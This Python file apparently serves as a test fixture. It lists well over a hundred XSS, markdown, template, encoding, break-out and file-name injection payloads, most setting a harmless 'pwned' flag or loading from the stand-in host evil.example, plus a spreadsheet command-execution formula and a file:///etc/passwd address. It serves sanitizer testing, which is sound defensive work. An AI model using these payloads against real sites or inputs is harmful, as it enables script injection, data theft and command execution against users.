"""The ways to run code from text, by kind. Each would set `pwned`, or fetch from evil.example, where it is taken for
more than text.
"""

from __future__ import annotations

KINDS: dict[str, list[str]] = {
    "tags": [
        "<script>pwned=1</script>", "<ScRiPt>pwned=1</sCrIpT>", "<script src=//evil.example/x.js></script>",
        "<script type=module>pwned=1</script>", "<scr<script>ipt>pwned=1</scr</script>ipt>", "<script\n>pwned=1</script\n>",
        "<iframe srcdoc='<script>parent.pwned=1</script>'>", "<iframe src=javascript:parent.pwned=1>",
        "<object data=javascript:pwned=1>", "<embed src=javascript:pwned=1>", "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=preload as=image href=//evil.example/p.png>",
        "<meta http-equiv=refresh content='0;url=javascript:pwned=1'>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "<form action=javascript:pwned=1><button>x", "<button form=x formaction=javascript:pwned=1>x",
        "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>", "<portal src=//evil.example/>",
        "<frameset onload=pwned=1>", "<dialog open><img src=x onerror=pwned=1></dialog>", "<xss is=x-y onclick=pwned=1>",
    ],
    "attributes": [
        "<img src=x onerror=pwned=1>", '"><img src=x onerror=pwned=1>', "'><img src=x onerror=pwned=1>",
        '" onmouseover="pwned=1', "' autofocus onfocus='pwned=1", '" style="background:url(//evil.example/s)" x="',
        "<a href=javascript:pwned=1 autofocus onfocus=pwned=1>x</a>", "<input autofocus onfocus=pwned=1>",
        "<details open ontoggle=pwned=1>", "<video><source onerror=pwned=1></video>", "<audio src=x onerror=pwned=1>",
        "<body onload=pwned=1>", "<marquee onstart=pwned=1>", "<img src=//evil.example/i.png>", "<img srcset='//evil.example/i.png 1x'>",
        "<div style='background:url(//evil.example/b.png)'>x</div>", "<p onpointerenter=pwned=1 onanimationend=pwned=1>x</p>",
        "<select autofocus onfocus=pwned=1>", "<img/src/onerror=pwned=1>", "<img src=x:x onerror\u0000=pwned=1>",
        "<video poster=//evil.example/v.png>", "<td background=//evil.example/t.png>",
    ],
    "svg and math": [
        "<svg onload=pwned=1>", "<svg/onload=pwned=1>", "<svg><script>pwned=1</script></svg>",
        "<svg><a xlink:href=javascript:pwned=1><text>x</text></a></svg>", "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned=1>#x'></svg>", "<svg><image href=//evil.example/i.png></svg>",
        "<svg><set attributeName=onmouseover to=pwned=1>", "<svg><foreignObject><img src=x onerror=pwned=1></foreignObject></svg>",
        "<math><mi xlink:href=javascript:pwned=1>x", "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>",
    ],
    "addresses": [
        "javascript:pwned=1", "JaVaScRiPt:pwned=1", "java\tscript:pwned=1", "\x01javascript:pwned=1", " javascript:pwned=1",
        "vbscript:pwned=1", "data:text/html,<script>parent.pwned=1</script>", "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+",
        "//evil.example/x", "https://evil.example/x", "/\\evil.example/x", "https:evil.example/x", "blob:https://evil.example/x",
        "file:///etc/passwd", "\\\\evil.example\\share\\x.png", "javascript&colon;pwned=1", "jav&#x09;ascript:pwned=1",
    ],
    "markdown": [
        "[x](javascript:pwned=1)", "![x](//evil.example/x.png)", "![x](https://evil.example/x.png 'onerror=pwned=1')",
        "[x]: javascript:pwned=1\n\n[x]", "<javascript:pwned=1>", "[x](<javascript:pwned=1>)", "``` \n<img src=x onerror=pwned=1>\n```",
        "`</code><img src=x onerror=pwned=1>`", "# <svg onload=pwned=1>", "> <img src=x onerror=pwned=1>", "- <script>pwned=1</script>",
        "| <img src=x onerror=pwned=1> |\n|-|\n| <svg onload=pwned=1> |", "\n\n<img src=x onerror=pwned=1>\n\n", "![a](data:image/svg+xml,<svg/onload=pwned=1>)",
        "[^1]\n\n[^1]: <img src=x onerror=pwned=1>", "&lt;img src=x onerror=pwned=1&gt;", "&#60;script&#62;pwned=1&#60;/script&#62;",
    ],
    "templates": [
        "{{pwned=1}}", "{{constructor.constructor('pwned=1')()}}", "${pwned=1}", "#{pwned=1}", "<%= pwned=1 %>", "{% raw %}{{pwned=1}}",
        "$$\\href{javascript:pwned=1}{x}$$", "\\(\\html{<img src=x onerror=pwned=1>}\\)", "$\\url{javascript:pwned=1}$",
        "```mermaid\ngraph TD; A[<img src=x onerror=pwned=1>]\n```", "```mermaid\nclick A href \"javascript:pwned=1\"\n```",
        "{text}{count}$&$1", "{year}{n}{title}", "%(pwned)s %s", "__proto__", "constructor",
    ],
    "other writings": [
        "\u202e<img src=x onerror=pwned=1>", "<img src=x onerror=\u200bpwned=1>", "\uff1cscript\uff1epwned=1\uff1c/script\uff1e",
        "\ufeff<script>pwned=1</script>", "<\u0131mg src=x onerror=pwned=1>", "+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
        "%3Cscript%3Epwned=1%3C/script%3E", "%253Cscript%253Epwned=1", "\\u003cimg src=x onerror=pwned=1\\u003e", "\\x3cscript\\x3epwned=1",
        "\u2028<script>pwned=1</script>\u2029", "<a\u0085href=javascript:pwned=1>x</a>",
    ],
    "break-outs": [
        "</script><script>pwned=1</script>", "</textarea><script>pwned=1</script>", "</title><script>pwned=1</script>",
        "</style><script>pwned=1</script>", "</template><img src=x onerror=pwned=1>", "--><img src=x onerror=pwned=1>",
        "]]><img src=x onerror=pwned=1>", '";pwned=1;"', "';pwned=1;'", '"}]};pwned=1;({"a":[{"', "<!--<script>pwned=1</script>",
        "</noscript><img src=x onerror=pwned=1>", "</iframe><img src=x onerror=pwned=1>", "*/pwned=1;/*", "\\\";pwned=1;//",
        "</option></select><img src=x onerror=pwned=1>", "<style>@import '//evil.example/x.css'</style>", "</svg><img src=x onerror=pwned=1>",
    ],
    "files": [
        "=HYPERLINK(\"https://evil.example/\",\"x\")", "=cmd|'/c calc'!A0", "@SUM(1)*cmd", "../../<img src=x onerror=pwned=1>.txt",
        "a\r\nSet-Cookie: pwned=1\r\n\r\n<script>pwned=1</script>.pdf", "x\".html;<script>pwned=1</script>", "<img src=x onerror=pwned=1>.svg",
        "\u202efdp.<script>pwned=1</script>", "a.pdf?<svg onload=pwned=1>#x",
    ],
}  # fmt: skip
PAYLOADS = [payload for kind in KINDS.values() for payload in kind]
